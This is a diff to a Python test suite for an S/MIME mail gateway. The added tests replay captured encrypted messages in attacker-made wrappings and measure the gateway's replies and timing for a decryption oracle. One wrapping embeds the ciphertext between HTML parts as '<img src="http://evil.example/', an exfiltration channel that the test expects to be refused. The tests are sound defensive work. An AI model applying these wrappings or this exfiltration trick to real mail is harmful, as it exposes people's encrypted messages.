@@ -8,6 +8,7 @@ import os
 import random
 import re
 import time
+import zlib
 
 from gateway import wait_for
 from mail import Talk, quick, solo
@@ -177,14 +178,15 @@ class Attacker:
     def __init__(self, gw):
         self.gw, self.talk, self.sent, self.n = gw, None, {}, 0
 
-    def send(self, name, der):
+    def send(self, name, der, sender=THEM):
+        """der: CMS octets, or a whole MIME entity."""
         if self.talk is None:
             self.talk = Talk(self.gw.outside, timeout=90)
             self.talk.ask("EHLO attacker.test")
         self.n += 1
-        data = with_header(smime(der), THEM, US, f"n{self.n:06d}")
+        data = with_header(smime(der) if der[:1] == b"\x30" else der, THEM, US, f"n{self.n:06d}")
         assert not re.search(rb"^\.", data, re.M)
-        replies = [self.talk.ask(c) for c in (f"MAIL FROM:<{THEM}>", f"RCPT TO:<{US}>", "DATA")]
+        replies = [self.talk.ask(c) for c in (f"MAIL FROM:<{sender}>", f"RCPT TO:<{US}>", "DATA")]
         self.talk.say(data)
         time.sleep(0.001)  # all of it is there before the clock starts
         began = time.perf_counter()
@@ -306,6 +308,10 @@ def test_the_measure(top):
         attacker.sent = {"spoilt": times(36, 0.0012), "good": times(36, 0)}
         found += look_alike(attacker, "spoilt", "good") is not None
     assert found > 40, found
+    attacker.sent = {"spoilt": times(24, 0.006), "good": times(24, 0)}
+    assert alike(attacker, "spoilt", "good", "250") is not None
+    attacker.sent = {"spoilt": times(24, 0), "good": times(24, 0)}
+    assert alike(attacker, "spoilt", "good", "250") is None
     attacker.sent["good"][3][1][0] = "451 4.3.0 later"
     try:
         look_alike(attacker, "spoilt", "good")
@@ -314,17 +320,156 @@ def test_the_measure(top):
     raise AssertionError("a different reply went unnoticed")
 
 
+# ---- captured ciphertexts, wrapped anew ----
+
+def element(tag, *parts):
+    body = b"".join(parts)
+    size = b"" if len(body) < 128 else len(body).to_bytes((len(body).bit_length() + 7) // 8, "big")
+    return bytes([tag, 128 | len(size) if size else len(body)]) + size + body
+
+
+def oid(*dotted):
+    """The content of an OBJECT IDENTIFIER, of its numbers behind the first two."""
+    out = bytes([42])
+    for n in dotted:
+        octets = [n & 127]
+        while n >= 128:
+            n >>= 7
+            octets.append(128 | n & 127)
+        out += bytes(reversed(octets))
+    return element(0x06, out)
+
+
+PKCS = (840, 113549, 1)
+
+
+def compressed(content):
+    """CompressedData (RFC 3274) around a MIME entity, as a MIME entity."""
+    inside = element(0x30, oid(*PKCS, 7, 1), element(0xa0, element(0x04, zlib.compress(content))))
+    data = element(0x30, element(0x02, b"\0"), element(0x30, oid(*PKCS, 9, 16, 3, 8)), inside)
+    return smime(element(0x30, oid(*PKCS, 9, 16, 1, 9), element(0xa0, data)), "compressed-data")
+
+
+def relabelled(der):
+    """AuthEnvelopedData with GCM as EnvelopedData with CBC: the same key and octets, the tag left off."""
+    top = Der(der)
+    inner = top.kids[1].kids[0]
+    info = inner.kids[2]
+    octets = info.kids[2].content
+    alg = element(0x30, element(0x06, bytes.fromhex("60864801650304012a")), element(0x04, octets[:16]))
+    content = element(0x30, info.kids[0].octets(), alg, element(0x80, octets[:len(octets) // 16 * 16]))
+    return element(0x30, oid(*PKCS, 7, 3), element(0xa0, element(0x30, inner.kids[0].octets(), inner.kids[1].octets(), content)))
+
+
+def two_keys(der, bad_first):
+    """Two RecipientInfos that name our certificate: one key good, one spoilt."""
+    e, twin = Envelope(der), Envelope(der)
+    flip(twin.key, 100)
+    infos, other = e.top.kids[1].kids[0].kids[1], twin.top.kids[1].kids[0].kids[1].kids[0]
+    infos.kids.insert(0 if bad_first else 1, other)
+    return e.octets()
+
+
+def multipart(subtype, *parts, params=""):
+    body = b"".join(b"--edge\r\n" + p + b"\r\n" for p in parts) + b"--edge--\r\n"
+    return f'MIME-Version: 1.0\r\nContent-Type: multipart/{subtype}; boundary="edge"{params}\r\n\r\n'.encode() + body
+
+
+def html(octets):
+    return b"Content-Type: text/html\r\n\r\n" + octets + b"\r\n"
+
+
+def attached(entity_octets):
+    return b"Content-Type: message/rfc822\r\n\r\n" + with_header(entity_octets, THEM, US, "inner")
+
+
+def shapes(attacker_id):
+    """name -> (how captured octets are wrapped, reverse-path, reply to the final dot)."""
+    queued = "250 2.0.0 queued as ID"
+    status = b"Content-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.partner.example\r\n\r\nFinal-Recipient: rfc822; x@partner.example\r\nAction: failed\r\nStatus: 5.1.1\r\n"
+    return {
+        "as it came": (lambda d: smime(d), THEM, queued),
+        "label of another kind": (lambda d: smime(d, "authEnveloped-data"), THEM, queued),
+        "in a multipart/signed of his own": (lambda d: attacker_id.sign(smime(d), detached=True, extra=("-binary",)), THEM, queued),
+        "in an opaque signature of his own": (lambda d: sign(attacker_id, smime(d)), THEM, queued),
+        "compressed": (lambda d: compressed(smime(d)), THEM, queued),
+        "in message/rfc822": (lambda d: b"MIME-Version: 1.0\r\n" + attached(smime(d)), THEM, queued),
+        "as a returned message": (lambda d: multipart("report", b"Content-Type: text/plain\r\n\r\nreturned\r\n", status, attached(smime(d)), params="; report-type=delivery-status"), "", queued),
+        "between parts of html": (lambda d: multipart("mixed", html(b'<img src="http://evil.example/'), smime(d), html(b'">')), THEM, "550 5.7.1"),
+        "joined twice": (lambda d: multipart("mixed", smime(d), smime(d)), THEM, "550 5.7.1"),
+    }
+
+
+def alike(attacker, a, b, final):
+    """Codes and texts the same; the medians of the times within a quarter or 3 ms, or no further apart than a busy machine puts them by chance."""
+    seen, other = attacker.sent[a], attacker.sent[b]
+    assert all(same(r) == same(other[0][1]) for _, r, _ in seen + other), (a, seen[0][1], other[0][1])
+    assert same(other[0][1])[-1].startswith(final), (a, other[0][1])
+    x, y = (sorted(t for _, _, t in v)[len(v) // 2] for v in (seen, other))
+    n = len(seen)
+    apart = advantage([t for _, _, t in seen], [t for _, _, t in other]) > 4 * ((2 * n + 1) / 12) ** 0.5 / n
+    return f"{a}: medians {x * 1e3:.2f} and {y * 1e3:.2f} ms" if apart and abs(x - y) > max(0.25 * max(x, y), 0.003) else None
+
+
+def test_replayed_and_wrapped_anew(top):
+    """Whatever an attacker puts around a captured message or does to it, its answer is that of one spoilt inside; only structure that anybody can see is refused."""
+    gw, inside, outside, them, us = house(top)
+    evil = Identity(top, "evil", "DNS:evil.example")
+    content, other = sign(them, entity(text(1500))), sign(them, entity(text(1500)))
+    good, gcm = enveloped(us, content), enveloped(us, content, "-aes-256-gcm")
+    spoilt = Envelope(good)
+    flip(spoilt.content, -17)
+    pairs = {name: (wrap(good), wrap(spoilt.octets()), sender, final) for name, (wrap, sender, final) in shapes(evil).items()}
+    swapped, cbc = Envelope(good), relabelled(gcm)
+    swapped.key.content = Envelope(enveloped(us, other)).key.content
+    queued = "250 2.0.0 queued as ID"
+    pairs["key of another message"] = (swapped.octets(), good, THEM, queued)
+    pairs["two keys"] = (two_keys(good, True), two_keys(good, False), THEM, queued)
+    pairs["GCM as CBC"] = (cbc, filled(us, them, len(cbc)), THEM, queued)
+    attacker = Attacker(gw)
+    for name, (a, b, sender, _) in pairs.items():
+        attacker.send("warm", a, sender)
+    for _ in range(24):
+        turn = [(n, d, s) for name, (a, b, s, _) in pairs.items() for n, d, s in ((name, a, s), (name + " (other)", b, s))]
+        random.shuffle(turn)
+        for name, octets, sender in turn:
+            attacker.send(name, octets, sender)
+        attacker.settle()
+    attacker.close()
+    bad = [x for x in [alike(attacker, name, name + " (other)", p[3]) for name, p in pairs.items()] if x]
+    assert not bad, "\n".join(bad)
+    arrived = {m.field("Message-ID"): m for m in inside.mails}
+    held = {m["message_id"]: m["recipients"][0]["reason"] for m in gw.queue(state="held", max=100000)}
+
+    def fate(name):
+        ids = [mid for mid, _, _ in attacker.sent[name]]
+        return ["held" if m in held else arrived[m].field("X-Postern-Verdict") if m in arrived else "gone" for m in ids]
+    for name in ("key of another message", "GCM as CBC", *(n + " (other)" for n in ("as it came", "in a multipart/signed of his own", "in an opaque signature of his own", "compressed"))):
+        assert set(fate(name)) == {"held"}, (name, fate(name))
+    # what he signs around it is neither the author's word nor a harm to it
+    for name in ("as it came", "in a multipart/signed of his own", "in an opaque signature of his own", "compressed", "GCM as CBC (other)"):
+        assert set(fate(name)) == {"sealed"}, (name, fate(name), [held.get(m) for m, _, _ in attacker.sent[name]][:1])
+    for name in ("in message/rfc822", "as a returned message", "in message/rfc822 (other)"):
+        assert set(fate(name)) == {"clear"}, (name, fate(name))
+    for mid, _, _ in attacker.sent["in message/rfc822"]:
+        assert b"0123456789 abcdefghij" not in arrived[mid].body
+    for name in ("between parts of html", "joined twice"):
+        assert set(fate(name)) == {"gone"}, (name, fate(name))
+    assert outside.mails == []
+
+
 def test_failures_limit(top):
     """After open-failures-max messages that could not be opened, the next of that client are held unopened, good ones too; released, they come."""
     gw, inside, outside, them, us = house(top, settings="")
     good = enveloped(us, sign(them, entity(text(500))))
     attacker = Attacker(gw)
+    wraps = [w for w, s, final in shapes(Identity(top, "evil", "DNS:evil.example")).values() if s and final[0] == "2"]
     attacker.send("before", good)
     inside.by_subject("n000001")
     for i in range(5):
         e = Envelope(enveloped(us, sign(them, entity(text(500)))))
         flip(e.content, -17)
-        attacker.send("bad", e.octets())
+        attacker.send("bad", wraps[i](e.octets()))
         attacker.settle()
     attacker.send("after", good)
     attacker.settle()
